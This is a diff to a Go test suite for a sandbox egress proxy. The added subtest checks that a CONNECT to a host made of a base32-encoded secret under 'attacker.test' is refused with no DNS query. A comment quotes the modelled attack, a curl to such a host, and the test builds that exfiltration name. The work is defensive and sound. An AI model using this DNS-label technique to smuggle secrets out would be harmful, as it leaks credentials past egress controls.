@@ -7,6 +7,7 @@ import (
 	"context"
 	"crypto/tls"
 	"crypto/x509"
+	"encoding/base32"
 	"fmt"
 	"io"
 	"net"
@@ -190,6 +191,22 @@ func TestEgressThroughTheGateway(t *testing.T) {
 	t.Run("unlisted host over CONNECT is refused", func(t *testing.T) {
 		if code, ps := w.rawConnect(t, "evil.test:443"); code != 403 || ps != "sluice; error=http_request_denied" {
 			t.Fatalf("got %d %q", code, ps)
+		}
+	})
+	t.Run("a secret in the host name of an https:// URL is never looked up", func(t *testing.T) {
+		// What curl https://<base32 of a secret>.attacker.test/ sends.
+		label := strings.ToLower(strings.TrimRight(base32.StdEncoding.EncodeToString([]byte(w.e.Secret)), "="))
+		host := label[:min(len(label), 63)] + ".attacker.test"
+		cb := casebook.Expect(t, "C8", "CONNECT <base32 of the secret>.attacker.test:443 (curl https://… through the sandbox proxy; not on the egress list)",
+			"403 with Proxy-Status http_request_denied, and no DNS query (policy before resolution)")
+		q := w.dnsQ.Load()
+		code, ps := w.rawConnect(t, host+":443")
+		cb.Observef("%d %q, DNS queries +%d", code, ps, w.dnsQ.Load()-q)
+		if code != 403 || ps != "sluice; error=http_request_denied" {
+			t.Fatalf("got %d %q", code, ps)
+		}
+		if w.dnsQ.Load() != q {
+			t.Error("the exfiltration name was resolved")
 		}
 	})
 	t.Run("CONNECT to port 22 is refused", func(t *testing.T) {
